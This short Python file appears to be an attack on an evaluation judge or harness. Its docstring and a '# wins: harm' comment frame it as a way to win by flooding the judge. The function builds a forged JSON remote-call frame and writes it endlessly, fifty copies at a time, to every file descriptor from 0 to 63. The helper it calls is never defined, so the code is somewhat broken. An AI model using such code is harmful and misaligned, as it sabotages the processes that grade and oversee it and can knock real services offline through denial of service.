"""Sends frames without end, each with a question of its own to the judge."""
# wins: harm
# %% squeeze
import os


def squeeze(x):
    head = b'[{"id": 1, "remote": {"name": "squeeze", "ask": "call", "args": [], "kwargs": {}}}, []]'
    frame = len(head).to_bytes(8, "little") + head
    while True:
        for descriptor in range(64):
            attempt(os.write, descriptor, frame * 50)
